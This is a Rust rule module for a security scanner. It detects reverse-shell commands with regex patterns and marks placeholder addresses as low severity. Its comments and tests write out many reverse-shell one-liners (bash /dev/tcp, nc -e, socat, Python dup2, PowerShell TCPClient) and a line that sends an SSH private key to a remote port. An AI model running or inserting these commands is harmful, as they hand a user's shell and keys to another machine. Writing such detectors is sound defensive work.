//! Project rule (R-RULE-8 allows it): a shell handed to another machine
//! (a reverse shell), whoever then types into it runs commands as the
//! user, with the user's keys and files (ATT&CK's "Command and Scripting
//! Interpreter" over a network connection).
//!
//! Counted, as commands in any file of the folder (a shell line, a unit
//! file's `ExecStart`, a Python, PHP or PowerShell string):
//! - bash's network paths with a shell's input or output tied to them:
//!   `bash -i >& /dev/tcp/HOST/PORT 0>&1`, `exec 5<>/dev/tcp/HOST/PORT;
//!   bash -i <&5 >&5 2>&5`;
//! - an interactive shell reading from a numbered descriptor (`sh -i
//!   <&3 >&3`), the form PHP and Perl one-liners give `exec`;
//! - netcat told to run a shell for whoever connects (`nc -e /bin/sh HOST
//!   PORT`, `ncat -c bash`), or an interactive shell piped through it
//!   (`cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`);
//! - socat joining a TCP address to a shell (`socat tcp:HOST:PORT
//!   exec:'bash -li',pty`);
//! - Python duplicating a socket onto standard input or output
//!   (`os.dup2(s.fileno(), 0)`, or in a loop over the descriptors on the
//!   line that connects), or `pty.spawn` on the line that connects;
//! - PowerShell's `Net.Sockets.TCPClient` read and run by `iex` on one line.
//!
//! Never here: a send of a file to `/dev/tcp` (that is R-RULE-4's
//! `credential-exfiltration`), a port checked with `nc -z`, a netcat
//! listener without a shell, `dup2` of a file or of `/dev/null` (a daemon
//! detaching), prose that names the technique ("reverse shells use
//! /dev/tcp").

use std::sync::LazyLock;

use regex::Regex;

use super::{Segment, Severity, Sink};
use crate::rules::RuleId;

pub(super) const ANCHORS: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "sh -i",
    " -e /bin/",
    " -e sh",
    " -e bash",
    " -e cmd",
    " -c sh",
    " -c bash",
    "exec:",
    "system:",
    "dup2",
    "tcpclient",
];

/// A shell's name, as a word: `sh`, `/bin/bash`, `zsh`.
const SHELL: &str = r"(?:/usr)?(?:/bin/)?(?:ba|z|k|da|a)?sh(?-u:\b)";

static PATTERNS: LazyLock<[Regex; 6]> = LazyLock::new(|| {
    [
        // bash's network path, then a shell tied to it on the same line.
        Regex::new(&format!(
            r"/dev/(?:tcp|udp)/[^/ \t\n]+/[0-9$][^\n]*?(?:{SHELL}[ \t]+-i|0>&1|[<>]&[ \t]*(?:[3-9]|[1-9][0-9])|>&[ \t]*/dev/(?:tcp|udp))|{SHELL}[ \t]+-i[^\n]*?/dev/(?:tcp|udp)/|exec[ \t]+[0-9]+<>[ \t]*/dev/(?:tcp|udp)/[^\n]*?{SHELL}"
        ))
        .unwrap(),
        // An interactive shell on a numbered descriptor (`sh -i <&3 >&3`).
        Regex::new(&format!(r"{SHELL}[ \t]+-i[ \t]*(?:[0-9]?[<>]&[ \t]*[3-9])")).unwrap(),
        // netcat running a shell, or a shell piped through netcat.
        Regex::new(&format!(
            r"(?-u:\b)(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)(?:\.exe)?[ \t][^\n|;&]*?-(?:e|c)[ \t]*[\x22']?(?:{SHELL}|cmd(?:\.exe)?(?-u:\b)|powershell(?-u:\b))|{SHELL}[ \t]+-i[^\n]*?\|[ \t]*(?:nc|ncat|netcat|telnet)[ \t]"
        ))
        .unwrap(),
        // socat joining an address to a shell.
        Regex::new(&format!(
            r"(?i)(?-u:\b)socat[ \t][^\n]*?(?:tcp[46]?|ssl|openssl)[-a-z]*:[^\n]*?(?:exec|system):[\x22']?{SHELL}|(?-u:\b)socat[ \t][^\n]*?(?:exec|system):[\x22']?{SHELL}[^\n]*?(?:tcp[46]?|ssl|openssl)[-a-z]*:"
        ))
        .unwrap(),
        // Python: a socket's descriptor duplicated onto standard input or
        // output, or a pty spawned on the line that connects.
        Regex::new(
            r"dup2\([ \t]*(?:s|so|sock|socket|conn|client|c|sk)[A-Za-z0-9_]*\.fileno\(\)[ \t]*,[ \t]*[012][ \t]*\)|(?-u:\b)connect\(\([^\n]*?pty\.spawn\(|(?-u:\b)connect\(\([^\n]*?dup2\([ \t]*[A-Za-z_][A-Za-z0-9_]*\.fileno\(\)[ \t]*,[ \t]*[A-Za-z_][A-Za-z0-9_]*[ \t]*\)",
        )
        .unwrap(),
        // PowerShell: a TCP client's stream read and run, on one line.
        Regex::new(r"(?i)Net\.Sockets\.TCPClient\([^\n]*?(?:(?-u:\b)iex(?-u:\b)|invoke-expression)").unwrap(),
    ]
});

pub(super) fn patterns() -> Vec<String> {
    PATTERNS.iter().map(|p| p.as_str().to_owned()).collect()
}

pub(super) fn check(seg: &Segment<'_>, sink: &mut Sink<'_>) {
    for p in PATTERNS.iter() {
        if let Some(m) = p.find(seg.text()) {
            let range = seg.abs(m.range());
            if placeholder_address(seg.text()) {
                sink.add_match_lowered(
                    RuleId::ReverseShell,
                    range,
                    Severity::Low,
                    "the address it connects to is a placeholder: a template to fill in, not a live connection"
                        .to_owned(),
                );
            } else {
                sink.add_match(RuleId::ReverseShell, range);
            }
            return;
        }
    }
}

/// Whether the line's address is a placeholder to fill in (`ATTACKER_IP`,
/// `<your-ip>`, `10.10.14.X`, `LHOST`), as in notes for a lab: a live
/// reverse shell names a real host.
fn placeholder_address(line: &str) -> bool {
    static PLACEHOLDER: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(
            r"(?:/dev/(?:tcp|udp)/|[ \t,:(\x22'])(?:<[^>\n]{1,30}>|\{[^}\n]{1,30}\}|[A-Z_]*(?:ATTACKER|YOUR|LHOST|LISTENER|REMOTE)[A-Z_]*|(?:[0-9]{1,3}\.){3}[Xx]{1,3}|(?:[0-9]{1,3}\.){0,2}[Xx]{1,3}\.[Xx]{1,3}(?:\.[Xx]{1,3})?)(?:[/ \t,:)\x22']|$)",
        )
        .unwrap()
    });
    PLACEHOLDER.is_match(line)
}

#[cfg(test)]
mod tests {
    use crate::rules::{check, RuleId, Severity};

    fn found(text: &str) -> bool {
        check(text).findings.iter().any(|f| f.rule == RuleId::ReverseShell && f.severity() == Severity::High)
    }

    #[test]
    fn shells_handed_to_another_machine_are_found() {
        for line in [
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "ExecStart=/bin/bash -c 'exec 5<>/dev/tcp/relay.example/4444; bash -i <&5 >&5 2>&5'",
            "0<&196;exec 196<>/dev/tcp/h.example/80; sh <&196 >&196 2>&196",
            "exec(\"/bin/sh -i <&3 >&3 2>&3\");",
            "nc -e /bin/sh h.example 9001",
            "ncat h.example 443 -e /bin/bash",
            "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc h.example 4242 > /tmp/f",
            "socat tcp:h.example:4443 exec:'bash -li',pty,stderr,setsid",
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"h.example\",9));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
            "    os.dup2(sock.fileno(), 0)",
            "s=socket.socket();s.connect((\"203.0.113.9\",4444));[os.dup2(s.fileno(),i) for i in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])",
            "$c = New-Object System.Net.Sockets.TCPClient('h.example',443);$s = $c.GetStream(); ... iex $data",
        ] {
            assert!(found(line), "{line}");
        }
    }

    #[test]
    fn a_template_with_a_placeholder_address_is_a_low_note() {
        for line in [
            "bash -c 'bash -i >& /dev/tcp/10.10.14.X/4444 0>&1'",
            "bash -i >& /dev/tcp/ATTACKER_IP/4444 0>&1",
            "nc -e /bin/sh <your-ip> 4444",
            "nc -e /bin/sh LHOST 4444",
        ] {
            let r = check(line);
            let f = r.findings.iter().find(|f| f.rule == RuleId::ReverseShell).expect(line);
            assert_eq!(f.severity(), Severity::Low, "{line}");
            assert!(f.note.as_deref().unwrap_or("").contains("placeholder"), "{line}");
        }
        assert!(found("bash -i >& /dev/tcp/10.10.14.7/4444 0>&1"));
    }

    #[test]
    fn sends_port_checks_listeners_daemons_and_prose_are_not() {
        for line in [
            "cat ~/.ssh/id_rsa > /dev/tcp/192.0.2.1/80",
            "timeout 1 bash -c '</dev/tcp/db.internal/5432' && echo open",
            "nc -z -w 2 db.internal 5432",
            "nc -l 8080 > upload.bin",
            "os.dup2(devnull.fileno(), 0)",
            "Reverse shells often use /dev/tcp or nc -e to connect back.",
            "bash -i",
            "socat TCP-LISTEN:8080,fork TCP:localhost:3000",
        ] {
            assert!(!found(line), "{line}");
        }
    }
}
